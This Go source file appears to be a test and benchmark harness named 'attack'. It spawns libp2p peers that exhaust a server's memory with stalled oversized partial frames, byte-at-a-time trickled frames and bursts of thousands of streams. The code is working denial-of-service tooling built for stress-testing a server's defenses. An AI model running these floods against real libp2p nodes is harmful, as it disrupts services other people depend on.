// Package attack is a hostile client for tests and benchmarks: peers of its
// own (libp2p hosts with fresh identities, which cost an attacker nothing)
// that open streams to a server and send frames meant to pin its memory —
// partial frames that claim the protocol's largest size and stall before
// their last byte, frames trickled a byte at a time, and bursts of
// thousands of streams at once. It speaks only varint framing, never a
// protocol's messages: what it sends never decodes, so any memory the
// server holds for it is held for a frame still arriving.
//
// Every stream and goroutine it starts ends at Close.
package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
)

// Attacker is a set of peers attacking one server.
type Attacker struct {
	target peer.AddrInfo
	peers  []host.Host

	mu      sync.Mutex
	streams []network.Stream
	closed  bool
	wg      sync.WaitGroup
	ctx     context.Context
	cancel  context.CancelFunc
	next    atomic.Uint64 // round robin over peers
}

// New starts n peers listening on listen (e.g. /ip4/127.0.0.1/tcp/0) and
// connects each to target. opts are added to every peer's libp2p options.
func New(ctx context.Context, target peer.AddrInfo, n int, listen string, opts ...libp2p.Option) (*Attacker, error) {
	actx, cancel := context.WithCancel(context.Background())
	a := &Attacker{target: target, ctx: actx, cancel: cancel}
	for range n {
		h, err := libp2p.New(append([]libp2p.Option{libp2p.ListenAddrStrings(listen)}, opts...)...)
		if err != nil {
			a.Close()
			return nil, fmt.Errorf("attack: starting a peer: %w", err)
		}
		a.peers = append(a.peers, h)
		if err := h.Connect(ctx, target); err != nil {
			a.Close()
			return nil, fmt.Errorf("attack: connecting to %s: %w", target.ID, err)
		}
	}
	return a, nil
}

// Peers returns the attacking hosts.
func (a *Attacker) Peers() []host.Host { return a.peers }

// Close resets every stream the attack opened, stops its goroutines and
// closes its peers.
func (a *Attacker) Close() {
	a.mu.Lock()
	a.closed = true
	streams := a.streams
	a.streams = nil
	a.mu.Unlock()
	a.cancel()
	for _, s := range streams {
		_ = s.Reset()
	}
	a.wg.Wait()
	for _, h := range a.peers {
		_ = h.Close()
	}
}

// Result counts what an attack got done.
type Result struct {
	Opened  int // streams the server's side accepted (libp2p may refuse more)
	Written int // streams on which the whole payload went out
	Refused int // streams the server refused, reset or answered before the payload was out
}

// open opens one stream of pid from the next peer and keeps it for Close.
func (a *Attacker) open(ctx context.Context, pid protocol.ID) (network.Stream, error) {
	h := a.peers[a.next.Add(1)%uint64(len(a.peers))]
	s, err := h.NewStream(network.WithAllowLimitedConn(ctx, "attack"), a.target.ID, pid)
	if err != nil {
		return nil, err
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.closed {
		_ = s.Reset()
		return nil, fmt.Errorf("attack: closed")
	}
	a.streams = append(a.streams, s)
	return s, nil
}

// Partial opens n streams of pid at once (at most parallel at a time) and
// on each writes a frame length claiming claim bytes followed by send bytes
// of its body (send < claim: the frame never completes), then leaves the
// stream open and silent until Close: the partial-frame attack, and with a
// small send and a large n, the burst. It returns when every stream has
// been written or refused.
func (a *Attacker) Partial(ctx context.Context, pid protocol.ID, n, parallel, claim, send int) Result {
	payload := append(binary.AppendUvarint(nil, uint64(claim)), make([]byte, send)...)
	var res Result
	var mu sync.Mutex
	sem := make(chan struct{}, max(parallel, 1))
	var wg sync.WaitGroup
	for range n {
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			s, err := a.open(ctx, pid)
			if err != nil {
				return
			}
			_ = s.SetWriteDeadline(time.Now().Add(30 * time.Second))
			_, werr := s.Write(payload)
			mu.Lock()
			defer mu.Unlock()
			res.Opened++
			if werr != nil {
				res.Refused++
				return
			}
			res.Written++
		}()
	}
	wg.Wait()
	return res
}

// Trickle opens n streams of pid and on each sends a frame claiming claim
// bytes one byte every every, until the server drops the stream, the frame
// is complete but for one byte, or Close. Its goroutines belong to the
// Attacker. It returns once the streams are open; Dropped counts the
// streams the server has dropped so far.
func (a *Attacker) Trickle(ctx context.Context, pid protocol.ID, n, claim int, every time.Duration) *Trickle {
	tr := &Trickle{}
	for range n {
		s, err := a.open(ctx, pid)
		if err != nil {
			continue
		}
		tr.opened.Add(1)
		a.wg.Add(1)
		go func() {
			defer a.wg.Done()
			payload := append(binary.AppendUvarint(nil, uint64(claim)), make([]byte, claim-1)...)
			t := time.NewTicker(every)
			defer t.Stop()
			for _, b := range payload {
				if _, err := s.Write([]byte{b}); err != nil {
					tr.dropped.Add(1)
					return
				}
				select {
				case <-a.ctx.Done():
					return
				case <-t.C:
				}
			}
		}()
	}
	return tr
}

// Trickle is a trickle attack under way.
type Trickle struct {
	opened, dropped atomic.Int64
}

// Opened counts the trickling streams opened.
func (t *Trickle) Opened() int { return int(t.opened.Load()) }

// Dropped counts the trickling streams whose writes the server refused.
func (t *Trickle) Dropped() int { return int(t.dropped.Load()) }
